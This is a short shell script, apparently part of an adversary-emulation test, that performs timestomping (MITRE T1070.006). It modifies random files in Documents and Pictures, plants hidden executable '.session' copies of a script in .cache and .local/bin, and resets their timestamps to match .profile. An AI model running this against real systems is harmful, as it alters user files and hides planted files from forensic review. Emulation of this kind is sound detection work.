# T1070.006 by touch: planted and altered files get the times of others.
groundwork
rnd 15 35; files_in "$r" '*.*' Documents Pictures
for f in $found; do printf x >> "$f"; done
echo "$found" | tr '\n' '\0' | xargs -0 touch -r .profile
for d in .cache .local/bin; do cp work/steps.sh "$d/.session"; chmod +x "$d/.session"; touch -r .profile "$d/.session"; done
